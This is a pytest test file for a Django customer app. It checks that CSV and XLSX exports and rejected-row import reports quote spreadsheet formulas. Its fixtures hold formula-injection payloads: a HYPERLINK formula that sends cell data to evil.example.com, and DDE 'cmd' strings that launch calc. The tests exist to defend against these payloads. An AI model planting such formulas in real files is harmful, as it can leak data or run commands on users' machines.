"""No export or report Tendero writes holds a live spreadsheet formula: the customer
exports (page, API, CSV and XLSX) and the rejected rows of an import (page and
command)."""

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from tendero.accounts.models import User
from tendero.conftest import login
from tendero.customers.models import Customer, ImportJob

EVIL = '=HYPERLINK("http://evil.example.com/?"&A1,"Click")'
STARTS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]


def _content(response: Any) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def evil_customers(make_customer) -> list[Customer]:
    return [
        make_customer(display_name=name, city="=1+1", external_id=f"E-{index}")
        for index, name in enumerate(STARTS)
    ]


def test_the_csv_export_quotes_formulas(client: Client, admin_user: User, evil_customers):
    login(client, admin_user)

    content = _content(client.get(reverse("imports:export_customers") + "?format=csv"))

    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert sorted(r["display_name"] for r in rows) == sorted("'" + name for name in STARTS)
    assert {r["city"] for r in rows} == {"'=1+1"}
    assert all(r["id"].isdigit() for r in rows)


def test_the_xlsx_export_has_no_formula_cell(client: Client, admin_user: User, evil_customers):
    login(client, admin_user)

    response = client.get(reverse("imports:export_customers") + "?format=xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(_content(response))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    names = [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted("'" + name for name in STARTS)


def test_a_neutralised_export_imports_back_unchanged(
    client: Client, admin_user: User, evil_customers, tmp_path: Path
):
    login(client, admin_user)
    for file_format in ("csv", "xlsx"):
        response = client.get(reverse("imports:export_customers") + f"?format={file_format}")
        path = tmp_path / f"export.{file_format}"
        path.write_bytes(_content(response))
        out = io.StringIO()

        call_command(
            "import", "customers", str(path), "--user", admin_user.username, stdout=out,
            stderr=io.StringIO(),
        )  # fmt: skip

        assert f"0 created, 0 updated, {len(STARTS)} unchanged, 0 rejected" in out.getvalue()
    assert sorted(Customer.objects.values_list("display_name", flat=True)) == sorted(STARTS)


@pytest.fixture
def rejected_file(tmp_path: Path, settings) -> Path:
    settings.UPLOADS_DIR = tmp_path / "uploads"
    path = tmp_path / "bad.csv"
    # A row without a name is rejected, and its cells are echoed in the report.
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["name", "city"], ["", EVIL]])
    return path


def test_the_rejected_rows_report_quotes_formulas(client: Client, admin_user: User, rejected_file):
    login(client, admin_user)
    with rejected_file.open("rb") as handle:
        client.post(reverse("imports:new"), {"kind": "customers", "file": handle})
    job = ImportJob.objects.latest("id")
    data = {f"column-{i}": job.mapping.get(h, "") for i, h in enumerate(job.headers)}
    client.post(reverse("imports:map", args=[job.pk]), {**data, "action": "preview"})

    content = _content(client.get(reverse("imports:errors_csv", args=[job.pk])))

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1][0] == "2" and rows[1][-1] == "'" + EVIL


def test_the_commands_rejected_rows_file_quotes_formulas(admin_user: User, rejected_file, tmp_path):
    report = tmp_path / "rejected.csv"

    call_command(
        "import", "customers", str(rejected_file), "--user", admin_user.username,
        "--errors", str(report), stdout=io.StringIO(), stderr=io.StringIO(),
    )  # fmt: skip

    rows = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8-sig"))))
    assert rows[1][-1] == "'" + EVIL
